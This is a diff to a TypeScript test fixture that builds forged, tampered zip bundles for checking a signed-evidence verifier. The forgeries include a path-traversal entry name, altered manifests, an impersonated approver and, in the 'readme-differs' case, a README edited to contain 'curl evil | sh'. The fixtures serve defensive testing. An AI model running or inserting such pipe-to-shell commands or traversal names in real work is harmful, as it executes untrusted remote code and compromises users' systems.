@@ -1,3 +1,4 @@
+// oxlint-disable typescript/no-unsafe-return, typescript/no-unsafe-call, typescript/no-unsafe-argument, typescript/no-explicit-any -- an attacker changes documents without asking for their types
 import { encodeZip } from '../../src/bundle/zip-profile.ts';
 import { sealBundle } from '../../src/bundle/seal.node.ts';
 import { concatBytes } from '../../src/core/bytes.ts';
@@ -11,7 +12,7 @@ import { keyOf, signer, signerNumber, stranger, trust, trustIn } from './trust.t
 export const promoted = await promotedRun();
 export const good: Uint8Array = await sealBundle(promoted, { signer });
 /** Held for review by the gate, approved by a person. */
-export const approved = await promotedRun({ answer: 'The Board will perhaps meet again.\n', approver: 'ines' });
+export const approved = await promotedRun({ answer: 'The Board will perhaps meet again in spring [doc:t:brief#p1].\n', gate: { unsupported: 'review' }, approver: 'ines' });
 
 export interface Attack {
   readonly bytes: Uint8Array;
@@ -36,28 +37,54 @@ export const attacks: Readonly<Record<VerificationReportCode, () => Promise<Atta
   'zip-malformed': async () => ({ bytes: concatBytes([good, Uint8Array.of(0)]) }),
   // Bit 3 of the flags: "sizes follow the data", which some readers believe.
   'zip-not-canonical': async () => ({ bytes: patched(6, 8) }),
-  'zip-name': async () => ({ bytes: encodeZip([...forge().named(), { name: `${forge().top}/data/../../up`, bytes: new Uint8Array() }]), found: ['zip-name', 'zip-not-canonical'] }),
+  'zip-name': async () => ({
+    bytes: encodeZip([...forge().named(), { name: `${forge().top}/data/../../up`, bytes: new Uint8Array() }]),
+    found: ['zip-name', 'zip-not-canonical'],
+  }),
   'zip-too-large': async () => ({ bytes: patched(-14, 0xff, 0xff, 0xff, 0xff) }),
   'file-missing': async () => ({ bytes: forge().remove(answer).zip() }),
   'file-unlisted': async () => ({ bytes: forge().put('data/extra.txt', 'more').zip() }),
   'manifest-malformed': async () => ({
-    bytes: (await forge().edit('manifest-sha256.txt', (text) => text.split('\n').slice(0, -1).reverse().join('\n') + '\n').tagManifest().signed(signer)).zip(),
+    bytes: (
+      await forge()
+        .edit('manifest-sha256.txt', (text) => text.split('\n').slice(0, -1).reverse().join('\n') + '\n')
+        .tagManifest()
+        .signed(signer)
+    ).zip(),
   }),
-  'manifest-mismatch': async () => ({ bytes: forge().edit(answer, (text) => text.replace('0.25', '0.75')).zip() }),
+  'manifest-mismatch': async () => ({
+    bytes: forge()
+      .edit(answer, (text) => text.replace('0.25', '0.75'))
+      .zip(),
+  }),
   'tagmanifest-mismatch': async () => {
     const forgery = forge().edit(answer, (text) => text.replace('0.25', '0.75'));
     const tagManifest = forgery.bytes('tagmanifest-sha256.txt');
     return { bytes: forgery.manifests().put('tagmanifest-sha256.txt', tagManifest).zip() };
   },
-  'subject-mismatch': async () => ({ bytes: forge().edit(answer, (text) => text.replace('0.25', '0.75')).manifests().zip() }),
-  'bag-malformed': async () => ({ bytes: (await forge().edit('bag-info.txt', (text) => `${text}Contact-Email: call@example.org\n`).tagManifest().signed(signer)).zip() }),
+  'subject-mismatch': async () => ({
+    bytes: forge()
+      .edit(answer, (text) => text.replace('0.25', '0.75'))
+      .manifests()
+      .zip(),
+  }),
+  'bag-malformed': async () => ({
+    bytes: (
+      await forge()
+        .edit('bag-info.txt', (text) => `${text}Contact-Email: call@example.org\n`)
+        .tagManifest()
+        .signed(signer)
+    ).zip(),
+  }),
   'signature-missing': async () => ({ bytes: forge().unsigned().zip() }),
   'envelope-malformed': async () => {
     const forgery = forge();
     for (const path of forgery.envelopes()) forgery.json(path, (envelope) => envelope.signatures.push(envelope.signatures[0]));
     return { bytes: forgery.zip() };
   },
-  'statement-malformed': async () => ({ bytes: (await forge().signed(signer, (statement) => statement.subject.push({ ...statement.subject[0], name: 'other.txt' }))).zip() }),
+  'statement-malformed': async () => ({
+    bytes: (await forge().signed(signer, (statement) => statement.subject.push({ ...statement.subject[0], name: 'other.txt' }))).zip(),
+  }),
   'signature-invalid': async () => {
     const forgery = forge();
     const other = await signer.sign(new Uint8Array(3));
@@ -87,10 +114,29 @@ export const attacks: Readonly<Record<VerificationReportCode, () => Promise<Atta
   }),
   'verdict-differs': async () => ({ bytes: await insiderBundle(promoted, signer, ({ verdict }) => (verdict.reason = 'all is well')) }),
   'promotion-unsupported': async () => ({ bytes: await insiderBundle(approved, signer, ({ promotion }) => (promotion.decided_by.id = 'mallory')) }),
-  'document-malformed': async () => ({ bytes: (await forge().edit(run, (text) => `${text}\n`).resealed(signer)).zip() }),
-  'schema-violation': async () => ({ bytes: (await forge().json(run, (document) => (document.more = 1)).resealed(signer)).zip() }),
+  'document-malformed': async () => ({
+    bytes: (
+      await forge()
+        .edit(run, (text) => `${text}\n`)
+        .resealed(signer)
+    ).zip(),
+  }),
+  'schema-violation': async () => ({
+    bytes: (
+      await forge()
+        .json(run, (document) => (document.more = 1))
+        .resealed(signer)
+    ).zip(),
+  }),
   'record-broken': async () => ({
-    bytes: (await forge().edit('data/spans.jsonl', (text) => { const [a = '', b = '', ...rest] = text.split('\n'); return [b, a, ...rest].join('\n'); }).resealed(signer)).zip(),
+    bytes: (
+      await forge()
+        .edit('data/spans.jsonl', (text) => {
+          const [a = '', b = '', ...rest] = text.split('\n');
+          return [b, a, ...rest].join('\n');
+        })
+        .resealed(signer)
+    ).zip(),
   }),
   'span-open': async () => ({
     bytes: await insiderBundle(promoted, signer, ({ spans }) => Object.assign(spans[1], { status: 'open', end_unix_nano: null })),
@@ -105,9 +151,25 @@ export const attacks: Readonly<Record<VerificationReportCode, () => Promise<Atta
   'source-differs': async () => ({ bytes: await insiderBundle(promoted, signer, ({ sources }) => (sources.sources[0].range.byte_start += 1)) }),
   'count-mismatch': async () => ({ bytes: (await forge().signed(signer, (statement) => (statement.predicate.counts.claims += 1))).zip() }),
   'identity-mismatch': async () => ({
-    bytes: (await forge().json('data/promotion.json', (promotion) => (promotion.run_id = promotion.run_id.replace(/.$/, '0'))).resealed(signer)).zip(),
+    bytes: (
+      await forge()
+        .json('data/promotion.json', (promotion) => (promotion.run_id = promotion.run_id.replace(/.$/, '0')))
+        .resealed(signer)
+    ).zip(),
   }),
-  'readme-differs': async () => ({ bytes: (await forge().edit('data/README.txt', (text) => text.replace('cd evidence', 'curl evil | sh; cd evidence')).resealed(signer)).zip() }),
-  'schema-differs': async () => ({ bytes: (await forge().edit('data/schemas/run.schema.json', (text) => text.replace('A', 'B')).resealed(signer)).zip() }),
+  'readme-differs': async () => ({
+    bytes: (
+      await forge()
+        .edit('data/README.txt', (text) => text.replace('cd evidence', 'curl evil | sh; cd evidence'))
+        .resealed(signer)
+    ).zip(),
+  }),
+  'schema-differs': async () => ({
+    bytes: (
+      await forge()
+        .edit('data/schemas/run.schema.json', (text) => text.replace('A', 'B'))
+        .resealed(signer)
+    ).zip(),
+  }),
 };
 export { trust };
